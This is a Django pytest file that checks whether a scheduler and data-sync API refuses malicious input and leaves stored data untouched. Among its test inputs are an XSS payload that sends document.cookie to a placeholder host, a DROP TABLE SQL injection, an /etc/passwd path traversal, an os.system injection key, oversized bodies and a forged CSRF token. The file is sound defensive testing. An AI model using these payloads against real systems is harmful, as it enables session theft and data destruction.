"""What is sent to do harm is refused with a sentence, and nothing is stored."""

from __future__ import annotations

import json
from collections.abc import Iterator
from typing import Any

import pytest
from django.test import Client

from datasync_app.models import StockBasic, SyncLedger
from scheduler_app.models import ExecutionLog, JobConfig
from tests.datasync_app.factories import LedgerFactory, StockBasicFactory
from tests.factories import JobConfigFactory
from tests.scheduler_app.web import JOB, logged_in, post, registered

pytestmark = pytest.mark.django_db

JOBS = f"/api/scheduler/jobs/{JOB}"
SCRIPT = "<script>fetch('//evil.example/'+document.cookie)</script>"
SQL = "x'; DROP TABLE scheduler_job_config; --"
HUGE = {"text": "x" * 10_000_000}
DEEP = json.loads("[" * 400 + "]" * 400)
CRON = {"cron_expression": "0 18 * * *"}


@pytest.fixture(autouse=True)
def rows() -> Iterator[None]:
    with registered():
        JobConfigFactory.create(job_id=JOB, job_name="Mine")
        LedgerFactory.create(state="partial")
        StockBasicFactory.create(ts_code="600000.SH")
        yield


@pytest.fixture
def client() -> Client:
    return logged_in(superuser=True)


def state() -> list[object]:
    models = (JobConfig, ExecutionLog, SyncLedger, StockBasic)
    return [row for model in models for row in model.objects.order_by("pk").values()]


@pytest.mark.parametrize(
    ("path", "body", "status", "said"),
    [
        (f"{JOBS}/schedule", {**CRON, "job_name": SCRIPT}, 400, "it takes no < and no >"),
        (f"{JOBS}/schedule", {**CRON, "job_name": "x" * 100_000}, 400, "at most 200 characters"),
        (f"{JOBS}/schedule", {**CRON, "job_kwargs": HUGE}, 413, "The body is too large"),
        (f"{JOBS}/schedule", {**CRON, "job_kwargs": {"start": DEEP}}, 400, "nested more than 20 deep"),
        (f"{JOBS}/schedule", {**CRON, "job_kwargs": {"__class__": "os.system"}}, 400, "__class__"),
        (f"{JOBS}/schedule", {"cron_expression": "*/1 " * 10_000}, 400, "cron expression"),
        (f"{JOBS}/schedule", {"cron_expression": ",".join(["0-59/1"] * 9_000) + " * * * *"}, 400,
         "cron expression"),
        (f"{JOBS}/schedule", {"cron_expression": "0-999999999 * * * *"}, 400, "not one of 0 to 59"),
        (f"{JOBS}/schedule", {"cron_expression": "*/0 * * * *"}, 400, "not a number above 0"),
        (f"{JOBS}/schedule", {"cron_expression": SQL}, 400, "not one of 0 to 59"),
        (f"{JOBS}/schedule", {**CRON, "timezone": "../../../etc/passwd"}, 400, "time zone"),
        (f"{JOBS}/start", {"interval_seconds": 10**30}, 400, "interval"),
        (f"{JOBS}/start", {"interval_seconds": -1}, 400, "interval"),
        (f"{JOBS}/pause", {"reason": "x" * 100_000}, 400, "at most 500"),
        (f"{JOBS}/trigger", {"job_kwargs": HUGE}, 413, "The body is too large"),
        (f"{JOBS}/trigger", {"job_kwargs": {"days": SQL}}, 400, "days"),
        ("/api/scheduler/jobs/%3Cscript%3E/trigger", {}, 404, "There is no job"),
        ("/api/sync/cells/daily/20200109/accept", {"reason": ["<b>"]}, 400, "The reason is"),
        ("/api/sync/cells/daily'--/20200109/repair", {}, 404, "not a dataset"),
        ("/api/sync/daily-history", {"start": SQL}, 400, "not a date"),
    ],
    ids=lambda value: str(value)[:40],
)  # fmt: skip
def test_what_the_api_is_sent(
    client: Client, path: str, body: dict[str, Any], status: int, said: str
) -> None:
    before = state()
    answer = post(client, path, body)
    assert answer.status_code == status, answer.content[:500]
    assert answer.headers["Content-Type"] == "application/problem+json"
    assert said in answer.json()["detail"]
    assert len(answer.json()["detail"]) < 2_000
    assert state() == before


@pytest.mark.parametrize(
    "address",
    [
        "/api/scheduler/executions?job_id={}",
        "/api/scheduler/executions?status={}",
        "/api/scheduler/executions?limit={}",
        "/api/scheduler/preview?cron_expression={}",
        "/api/sync/tasks?job_type={}",
        "/api/sync/coverage?dataset={}",
        "/api/sync/coverage?start={}",
        "/api/stocks?q={}",
        "/api/stocks/600000.SH/bars?adjust={}",
        "/api/data/daily?ts_code={}",
        "/api/data/daily?trade_date={}",
        "/api/data/daily?fields={}",
        "/api/data/daily?cursor={}",
        "/admin/scheduler_app/executionlog/?q={}",
        "/admin/scheduler_app/executionlog/?status={}",
        "/admin/scheduler_app/executionlog/?o={}",
        "/admin/datasync_app/syncledger/?q={}",
        "/admin/datasync_app/syncledger/?dataset={}",
        "/admin/datasync_app/syncledger/?p={}",
        "/admin/datasync_app/syncledger/calendar/?dataset={}&year={}",
        "/admin/datasync_app/stockbasic/?q={}",
        "/admin/datasync_app/stockbasic/{}/change/",
    ],
)
def test_what_a_filter_is_asked(client: Client, address: str) -> None:
    before = state()
    for text in (SQL, SCRIPT, "%00", "%ff%fe", "9" * 500):
        answer = client.get(address.replace("{}", text), follow=True)
        assert answer.status_code in {200, 400, 404}, text
        if answer.headers["Content-Type"].startswith("text/html"):
            assert "<script>fetch" not in answer.content.decode()
    assert state() == before


def test_a_form_of_ten_megabytes_and_one_with_markup_in_its_name(client: Client) -> None:
    config = JobConfig.objects.get(job_id=JOB)
    page = f"/admin/scheduler_app/jobconfig/{config.pk}/change/"
    before = state()
    assert client.post(page, {"job_kwargs": json.dumps(HUGE)}).status_code == 400
    form = client.get(page).context["adminform"].form
    fields = {name: form[name].value() for name in form.fields}
    sent = {name: value for name, value in fields.items() if value not in (None, False)}
    answer = client.post(page, {**sent, "job_name": SCRIPT})
    assert answer.status_code == 200
    assert "it takes no &lt; and no &gt;" in answer.content.decode()
    assert state() == before


def test_a_forged_csrf_token() -> None:
    person = logged_in(superuser=True)
    client = Client(enforce_csrf_checks=True)
    client.cookies = person.cookies
    client.cookies["csrftoken"] = "a" * 32
    before = state()
    for path in (f"{JOBS}/stop", f"{JOBS}/trigger", "/api/sync/cells/daily/20200109/repair"):
        answer = post(client, path, {}, headers={"X-CSRFToken": "b" * 32})
        assert answer.status_code == 403
        assert "CSRF" in answer.json()["detail"]
    assert state() == before
